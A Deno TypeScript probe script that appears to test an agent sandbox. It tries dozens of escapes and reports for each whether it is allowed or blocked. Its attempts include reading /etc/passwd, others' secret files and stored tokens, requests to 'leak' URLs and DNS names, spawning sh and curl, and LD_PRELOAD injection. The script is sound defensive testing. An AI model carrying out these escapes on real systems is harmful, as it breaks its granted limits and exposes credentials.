import { execFileSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { connect } from "node:net";

/**
 * Started with the flags of one of the agent's programs, it tries what none of them may do, and a few things that they must be able to. Prints
 * a JSON object: what was tried, and `allowed` or the error's name. Arguments: the agent's folder, the gateway, a stranger's
 * `host:port` that really listens, and a stranger's folder with a file `secret`.
 */
const [data, gateway, stranger, folder] = Deno.args as [string, string, string, string];
const [host, port] = [stranger.split(":")[0]!, Number(stranger.split(":")[1])];
const outcomes: Record<string, string> = {};

async function attempt(name: string, work: () => unknown): Promise<void> {
  try {
    const result = await work();
    (result as { close?(): void } | undefined)?.close?.();
    outcomes[name] = "allowed";
  } catch (error) {
    outcomes[name] = (error as Error).name;
  }
}

await attempt("read /etc/passwd", () => Deno.readTextFileSync("/etc/passwd"));
await attempt("read a stranger's file", () => Deno.readTextFile(`${folder}/secret`));
await attempt("read it through ..", () => Deno.readTextFile(`${data}/../${folder.split("/").at(-1)}/secret`));
await attempt("read it with Node's fs", () => readFileSync(`${folder}/secret`));
await attempt("fetch it by a file: address", () => fetch(`file://${folder}/secret`));
await attempt("read it through a link", () => Deno.symlink(`${folder}/secret`, `${data}/link`));
await attempt("read it through a hard link", () => Deno.link(`${folder}/secret`, `${data}/hard`));
await attempt("import it", () => import(`file://${folder}/secret`));
await attempt("list /", () => [...Deno.readDirSync("/")]);
await attempt("write elsewhere", () => Deno.writeTextFile(`${folder}/new`, "x"));
await attempt(
  "write its own code",
  () => Deno.writeTextFile(new URL("../main.ts", import.meta.url), "", { append: true }),
);
await attempt("write its settings", () => Deno.writeTextFile(`${data}/agent.json`, "", { append: true }));
await attempt("put other settings in their place", async () => {
  await Deno.writeTextFile(`${data}/probe`, "x");
  await Deno.rename(`${data}/probe`, `${data}/agent.json`).finally(() => Deno.remove(`${data}/probe`));
});
await attempt("add a runner", () => Deno.mkdir(`${data}/runners/evil`, { recursive: true }));
await attempt("read the token of the models' source", () => Deno.readTextFile(`${data}/hf_token`));
await attempt("move a file out", () => Deno.rename(`${data}/agent.json`, `${folder}/taken`));
await attempt("read the gateway's token", () => Deno.readTextFile(`${data}/agent.json`));
await attempt("write the rules", () => Deno.writeTextFile(`${data}/policy.json`, "{}"));
await attempt("write its folder", async () => {
  await Deno.writeTextFile(`${data}/probe`, "x");
  await Deno.remove(`${data}/probe`);
});

await attempt("reach the gateway", async () => await (await fetch(`${gateway}/healthz`)).text());
await attempt("reach another port", () => fetch(`http://${stranger}/leak`));
await attempt("connect to another port", () => Deno.connect({ hostname: host, port }));
await attempt("connect with Node's net", () => connectNode(host, port));
await attempt("a socket to another port", () => new WebSocket(`ws://${stranger}`));
await attempt("reach another host", () => Deno.connect({ hostname: "192.0.2.1", port: 443 }));
await attempt("ask for a name", () => Deno.resolveDns("leak.example", "A"));
await attempt(
  "a socket of the file system",
  () => Deno.connect({ transport: "unix", path: `${folder}/socket` } as never),
);
await attempt("import from another host", () => import(`http://${stranger}/leak.js`));
await attempt("import from a host that Deno trusts", async () => {
  const tried = await import("https://esm.sh/" + "leak").then(() => "", (error: Error) => error.message);
  // Any other word means that it went out to ask: here there may just be no way to that host.
  if (/--no-remote/.test(tried)) throw new Deno.errors.NotCapable();
});
await attempt("import a package that is not here", () => import("npm:" + "left-pad@1.3.0"));
await attempt("listen on a port of its choice", () => Deno.listen({ hostname: "127.0.0.1", port: port + 1 }));
await attempt("listen to the network", () => Deno.listen({ hostname: "0.0.0.0", port: 0 }));
await attempt("listen on loopback", () => Deno.listen({ hostname: "127.0.0.1", port: 0 }));

await attempt("start a shell", () => new Deno.Command("sh", { args: ["-c", "id"] }).outputSync());
await attempt("start Deno", () => new Deno.Command(Deno.execPath(), { args: ["--version"] }).outputSync());
await attempt("start curl by its path", () => new Deno.Command("/usr/bin/curl").outputSync());
await attempt("start a shell with Node", () => execFileSync("sh", ["-c", "id"]));
await attempt(
  "start ffmpeg with another loader",
  () =>
    new Deno.Command("ffmpeg", { args: ["-version"], env: { LD_PRELOAD: `${folder}/evil.so` } }).outputSync(),
);
await attempt("start ffmpeg", () => new Deno.Command("ffmpeg", { args: ["-version"] }).outputSync());
await attempt("end another process", () => Deno.kill(Deno.ppid, 0 as never));

await attempt("read a variable", () => Deno.env.get("SECRET"));
await attempt("read all variables", () => Deno.env.toObject());
await attempt("load a library", () => Deno.dlopen("libc.so.6", {}));
await attempt("list network interfaces", () => Deno.networkInterfaces());
await attempt("ask who is signed in", () => Deno.uid());
await attempt("read it from a worker", () => {
  const code = `try { postMessage(Deno.readTextFileSync(${
    JSON.stringify(`${folder}/secret`)
  })) } catch { postMessage(null) }`;
  const worker = new Worker(`data:text/javascript,${encodeURIComponent(code)}`, { type: "module" });
  return new Promise<void>((resolve, reject) => {
    worker.onmessage = ({ data }) => data === null ? reject(new Deno.errors.NotCapable()) : resolve();
    worker.onerror = () => reject(new Deno.errors.NotCapable());
  }).finally(() => worker.terminate());
});
await attempt("ask for more rights", async () => {
  if ((await Deno.permissions.request({ name: "read", path: folder })).state !== "granted") {
    throw new Deno.errors.NotCapable();
  }
});

function connectNode(host: string, port: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, host, () => {
      socket.destroy();
      resolve();
    });
    socket.on("error", reject);
  });
}

console.log(JSON.stringify(outcomes));
Deno.exit(0);
